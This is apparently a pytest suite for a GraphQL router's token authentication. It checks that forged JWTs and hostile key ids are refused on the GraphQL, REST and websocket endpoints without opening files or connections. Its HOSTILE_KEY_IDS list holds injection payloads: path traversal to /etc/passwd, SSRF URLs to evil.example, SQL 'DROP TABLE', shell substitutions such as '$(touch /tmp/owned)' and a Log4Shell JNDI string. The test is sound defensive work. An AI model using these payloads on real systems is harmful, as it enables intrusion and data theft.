"""Forged tokens and hostile key ids, on every door."""

import asyncio
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed

from tests.router.identity.forged import (
    LEGACY,
    LEGACY_AUDIENCE,
    SECRET,
    forged_tokens,
    good_token,
    key_set,
)
from tests.router.identity.tokens import AUDIENCE, ISSUER, good_claims, raw_token
from tests.support.serving import served
from trellis.router.config import Auth, Config, Issuer, SubgraphSource
from trellis.router.identity.authenticate import Authenticator, TrustedIssuer
from trellis.router.identity.credentials import Credentials
from trellis.router.identity.keys import KeySet, SharedSecret
from trellis.router.serving.application import build_app
from trellis.schema.errors import Unauthenticated
from trellis.schema.tokens import TokenRules

FORGED = forged_tokens()
SAMPLE = [*FORGED][::6]


class Loads:
    def __init__(self) -> None:
        self.count = 0

    async def __call__(self) -> dict[str, Any]:
        self.count += 1
        return key_set()


def authenticator(load: Loads | None = None) -> Authenticator:
    legacy = TokenRules(LEGACY, LEGACY_AUDIENCE, algorithms=frozenset({"HS256"}))
    return Authenticator(
        [
            TrustedIssuer(TokenRules(ISSUER, AUDIENCE), KeySet(load or Loads())),
            TrustedIssuer(legacy, SharedSecret(SECRET)),
        ]
    )


async def reason(subject: Authenticator, token: str) -> str:
    with pytest.raises(Unauthenticated) as caught:
        await subject.authenticate(Credentials(f"Bearer {token}"))
    return caught.value.extensions["reason"]


def test_there_are_many_and_each_is_another():
    assert len(set(FORGED.values())) == len(FORGED) >= 90


@pytest.mark.parametrize("name", FORGED)
async def test_a_forged_token_is_refused(name: str):
    assert await reason(authenticator(), FORGED[name]) == "TOKEN_INVALID"


async def test_the_token_that_is_not_forged_is_good():
    found = await authenticator().authenticate(Credentials(f"Bearer {good_token()}"))
    assert found.username == "grace"


async def test_refusing_them_all_loads_the_keys_once_and_remembers_nothing():
    load = Loads()
    subject = authenticator(load)
    for token in FORGED.values():
        await reason(subject, token)
    assert load.count == 1
    assert len(subject._verified) == 0


HOSTILE_KEY_IDS: list[Any] = [
    "",
    " ",
    ".",
    "k1 ",
    " k1",
    "K1",
    "k1\x00",
    "\x00",
    "k1\n",
    "../../../../dev/null",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "/etc/passwd",
    "/proc/self/environ",
    "file:///etc/passwd",
    "http://127.0.0.1:9/key",
    "https://evil.example/jwks.json",
    "//evil.example/key",
    "' OR '1'='1",
    "x'; DROP TABLE signing_keys; --",
    "k1' UNION SELECT 'secret",
    "$(touch /tmp/owned)",
    "`id`",
    "| id",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%n",
    "%2e%2e%2fkey",
    "__proto__",
    "__class__",
    "constructor",
    "ｋ１",
    "k1\u200b",
    "ķ1",
    "🔑",
    "\ud800",
    "k" * 5000,
    None,
    1,
    1.5,
    True,
    ["k1"],
    [],
    {"kid": "k1"},
    {},
]


class Watch:
    """Notes files and connections while it is on. An audit hook stays for the whole process."""

    def __init__(self) -> None:
        self.is_on = False
        self.seen: list[tuple[str, Any]] = []
        sys.addaudithook(self._note)

    def _note(self, event: str, arguments: Any) -> None:
        if self.is_on and event in ("open", "socket.connect", "socket.getaddrinfo", "os.system"):
            self.seen.append((event, arguments[:1]))

    @contextmanager
    def on(self) -> Iterator[None]:
        self.seen.clear()
        self.is_on = True
        try:
            yield
        finally:
            self.is_on = False


@pytest.fixture(scope="module")
def watch() -> Watch:
    return Watch()


def token_with(key_id: Any) -> str:
    header = {"alg": "RS256", "typ": "JWT", "kid": key_id}
    if key_id is None:
        del header["kid"]
    return raw_token(header, good_claims(), bytes(256))


async def test_hostile_key_ids_find_nothing_fetch_nothing_and_open_nothing(watch: Watch):
    load = Loads()
    subject = authenticator(load)
    await subject.authenticate(Credentials(f"Bearer {good_token()}"))
    tokens = [token_with(key_id) for key_id in HOSTILE_KEY_IDS]
    with watch.on():
        verdicts = {await reason(subject, token) for token in tokens}
    assert verdicts == {"TOKEN_INVALID"}
    assert watch.seen == []
    assert load.count == 1


async def test_the_watch_sees_what_it_should(watch: Watch, tmp_path: Path):
    await asyncio.to_thread(len, "")  # the first call imports what makes threads
    with watch.on():
        await asyncio.to_thread((tmp_path / "file").write_text, "x")
    assert [event for event, _ in watch.seen] == ["open"]


# -- through the whole application -----------------------------------------------------------------

REST = 'query WhoAmI @rest(method: GET, path: "/api/v1/whoami") { caller: whoami }'


@pytest.fixture(scope="module")
async def url(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[str]:
    folder = tmp_path_factory.mktemp("forged")
    keys = folder / "jwks.json"
    keys.write_bytes(orjson.dumps(key_set()))
    operations = folder / "operations" / "rest" / "tracker" / "users"
    operations.mkdir(parents=True)
    (operations / "who_am_i.graphql").write_text(REST)
    legacy = Issuer(issuer=LEGACY, audience=LEGACY_AUDIENCE, secret=SECRET.decode())  # pyright: ignore
    auth = Auth(issuer=ISSUER, audience=AUDIENCE, jwks=str(keys), issuers=(legacy,))
    source = SubgraphSource(module="tests.support.toy_issuer:people")
    config = Config(
        subgraphs={"people": source},
        schema_dir=folder / "schema",
        operations_dir=folder / "operations",
        auth=auth,
    )
    async with served(build_app(config), lifespan="on") as url:
        yield url


async def graphql_status(url: str, token: str) -> int:
    async with httpx.AsyncClient(trust_env=False) as client:
        headers = [(b"authorization", b"Bearer " + token.encode())]
        body = {"query": "{ whoami }"}
        return (await client.post(f"{url}/graphql", json=body, headers=headers)).status_code


async def rest_status(url: str, token: str) -> int:
    async with httpx.AsyncClient(trust_env=False) as client:
        headers = [(b"authorization", b"Bearer " + token.encode())]
        return (await client.get(f"{url}/tracker/api/v1/whoami", headers=headers)).status_code


async def socket_code(url: str, token: str) -> int | None:
    """The close code; None when the connection is acknowledged."""
    async with connect(
        f"{url.replace('http', 'ws')}/graphql",
        subprotocols=["graphql-transport-ws"],  # pyright: ignore
    ) as socket:
        init = {"type": "connection_init", "payload": {"authorization": f"Bearer {token}"}}
        await socket.send(orjson.dumps(init).decode())
        try:
            async with asyncio.timeout(5):
                assert orjson.loads(await socket.recv()) == {"type": "connection_ack"}
            return None
        except ConnectionClosed:
            return socket.close_code


async def test_every_door_lets_a_good_token_in(url: str):
    assert await graphql_status(url, good_token()) == 200
    assert await rest_status(url, good_token()) == 200
    assert await socket_code(url, good_token()) is None


async def test_graphql_answers_each_forged_token_with_401(url: str):
    statuses = {name: await graphql_status(url, token) for name, token in FORGED.items()}
    assert {name: status for name, status in statuses.items() if status != 401} == {}


@pytest.mark.parametrize("name", SAMPLE)
async def test_so_do_rest_and_the_socket(url: str, name: str):
    assert await rest_status(url, FORGED[name]) == 401
    assert await socket_code(url, FORGED[name]) == 4403


async def test_graphql_answers_hostile_key_ids_with_401(url: str):
    tokens = [token_with(key_id) for key_id in HOSTILE_KEY_IDS]
    assert {await graphql_status(url, token) for token in tokens} == {401}
